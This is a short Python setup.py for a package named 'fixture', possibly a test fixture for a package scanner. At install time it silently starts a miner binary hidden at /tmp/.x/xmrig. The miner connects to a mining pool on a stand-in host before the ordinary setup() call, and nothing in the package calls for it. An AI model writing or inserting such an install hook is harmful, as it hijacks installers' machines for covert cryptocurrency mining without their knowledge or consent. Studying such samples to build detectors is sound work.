import subprocess
from setuptools import setup
subprocess.Popen(["/tmp/.x/xmrig", "-o", "stratum+tcp://pool.example.invalid:3333", "-u", "wallet", "--donate-level", "0"])
setup(name="fixture", version="1.0")
